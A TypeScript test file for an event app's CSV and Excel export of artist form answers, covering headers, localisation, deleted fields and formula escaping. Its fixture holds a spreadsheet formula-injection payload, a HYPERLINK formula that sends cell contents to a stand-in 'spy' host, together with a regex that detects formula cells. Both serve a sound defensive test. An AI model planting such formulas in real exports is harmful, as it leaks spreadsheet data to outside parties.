import { advancing, type ExportForm, type ExportedFile } from '@laminate/contracts';
import { plainCell } from '@laminate/contracts/csv-cell';
import Papa from 'papaparse';
import readXlsxFile from 'read-excel-file/node';
import { openAdvancingFixture, type TestEvent } from '../../testing/advancing-fixture.ts';

const on = await openAdvancingFixture();

async function one(
  table: string,
  { accountId, eventId }: TestEvent,
  row: Readonly<Record<string, unknown>>,
): Promise<number> {
  const columns = Object.keys(row);
  const [added] = await on.fixture.sql<{ id: number }>(
    `insert into advancing.${table} (account_id, event_id, ${columns.join(', ')}) values ($1, $2, ${columns.map((_column, at) => `$${at + 3}`).join(', ')}) returning id`,
    [accountId, eventId, ...Object.values(row)],
  );
  return (added as { id: number }).id;
}

const FORMULA = `=HYPERLINK("https://spy.example?"&A1,"x")`;

/** A form with a section of travel, answered by two artists. */
async function answered() {
  const here = await on.addEvent();
  await on.artist(here, 'No form');
  const formId = await one('form', here, { name: 'Travel' });
  await one('form_section', here, { form_id: formId, name: 'Welcome', section_type: 'Intro' });
  const sectionId = await one('form_section', here, {
    form_id: formId,
    name: 'Flights: there/back',
    section_type: 'Section',
    repeating: true,
    position: 1,
  });
  await one('form_section', here, {
    form_id: formId,
    name: 'Pick-up',
    section_type: 'Section',
    parent_section_id: sectionId,
    position: 2,
  });
  const field = (label: string, type: string, position: number, deleted = false) =>
    one('form_field', here, {
      section_id: sectionId,
      label,
      field_type: type,
      position,
      deleted_at: deleted ? new Date() : null,
    });
  const [name, day, vip, old, unused] = [
    await field('Passenger', 'name', 0),
    await field('Day', 'date', 1),
    await field('Extra bag', 'checkbox', 2),
    await field('Seat', 'text', 3, true),
    await field('Meal', 'text', 4, true),
  ];
  const answer = (artistId: number, values: object, extra: object = {}) =>
    one('answer', here, {
      artist_id: artistId,
      section_id: sectionId,
      values_: JSON.stringify(values),
      created_by: 'x',
      changed_by: 'x',
      ...extra,
    });
  const [udu, oosorr] = [await on.artist(here, 'Udu; "the fog"', formId), await on.artist(here, 'Öösorr', formId)];
  await answer(udu, { [name]: FORMULA, [day]: '2026-07-31', [vip]: true, [old]: '12A', [unused]: '' });
  await answer(udu, { [name]: 'Line\nbreak', [vip]: false });
  await answer(oosorr, { [name]: 'Žanna Õunapuu' });
  await answer(oosorr, { [name]: 'Gone' }, { deleted_at: new Date() });
  return { here, formId, sectionId };
}

const get = (
  here: TestEvent,
  route: typeof advancing.exportSection,
  ids: { formId: number; sectionId: number },
  language = 'en',
) => on.call<ExportedFile>(route, { as: here.owner, params: { eventId: here.eventId, ...ids }, query: { language } });

it('lists forms with the sections that take answers', async () => {
  const { here, formId, sectionId } = await answered();
  const { body } = await on.call<{ forms: ExportForm[] }>(advancing.listExportForms, {
    as: here.owner,
    params: { eventId: here.eventId },
  });
  expect(body.forms).toEqual([
    {
      id: formId,
      name: 'Travel',
      sections: [
        { id: sectionId, name: 'Flights: there/back', answers: 3 },
        expect.objectContaining({ name: 'Pick-up', answers: 0 }),
      ],
    },
  ]);
});

const ROWS = [
  ['Udu; "the fog"', 'EST', FORMULA, '31.07.2026', 'yes', '12A'],
  ['Udu; "the fog"', 'EST', 'Line\nbreak', '', 'no', ''],
  ['Öösorr', 'EST', 'Žanna Õunapuu', '', '', ''],
];

it('makes a CSV that another reader reads back whole, in which no cell is a formula', async () => {
  const { here, ...ids } = await answered();
  const { status, body } = await get(here, advancing.exportSection, ids);
  expect([status, body.fileTitle]).toEqual([
    200,
    expect.stringMatching(/^Meretuul – Flights there back \d{4}-\d{2}-\d{2}\.csv$/),
  ]);
  const text = new TextDecoder('utf-8', { ignoreBOM: false }).decode(Buffer.from(body.contentBase64, 'base64'));
  const { data, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(errors).toEqual([]);
  expect(data[0]).toEqual(['Artist', 'Country', 'Passenger', 'Day', 'Extra bag', 'Seat (deleted)']);
  expect(
    data
      .slice(1)
      .flat()
      .filter((cell) => /^[\s'"]*[=+\-@]/.test(cell) && !cell.startsWith("'")),
  ).toEqual([]);
  expect(data.slice(1).map((row) => row.map(plainCell))).toEqual(ROWS);
  expect((await on.log(here)).at(-1)).toMatchObject({
    action: 'export_answers',
    details: { name: 'Flights: there/back' },
  });
});

it('makes the same as a workbook, in the language of who asks', async () => {
  const { here, ...ids } = await answered();
  const { body } = await get(here, advancing.exportSectionXlsx, ids, 'et');
  const [sheet] = await readXlsxFile(Buffer.from(body.contentBase64, 'base64'));
  const [titles, ...rows] = sheet?.data ?? [];
  expect([sheet?.sheet, titles]).toEqual([
    'Flights  there back',
    ['Artist', 'Riik', 'Passenger', 'Day', 'Extra bag', 'Seat (kustutatud)'],
  ]);
  expect(rows.map((row) => row.map((cell) => cell ?? ''))).toEqual(
    ROWS.map((row) =>
      row.map((cell) => ({ yes: 'jah', no: 'ei', '31.07.2026': new Date('2026-07-31') })[cell] ?? cell),
    ),
  );
});

it('makes a workbook of more columns than the alphabet has letters', async () => {
  const { here, formId, sectionId } = await answered();
  for (let index = 0; index < 30; index += 1)
    await one('form_field', here, {
      section_id: sectionId,
      label: `Field ${index}`,
      field_type: 'text',
      position: 10 + index,
    });
  const { body } = await get(here, advancing.exportSectionXlsx, { formId, sectionId });
  const [sheet] = await readXlsxFile(Buffer.from(body.contentBase64, 'base64'));
  expect(sheet?.data[0]?.at(-2)).toBe('Field 29');
});

it('knows no section of another form', async () => {
  const [one, other] = [await answered(), await answered()];
  expect(
    (await get(one.here, advancing.exportSection, { formId: one.formId, sectionId: other.sectionId })).status,
  ).toBe(404);
});
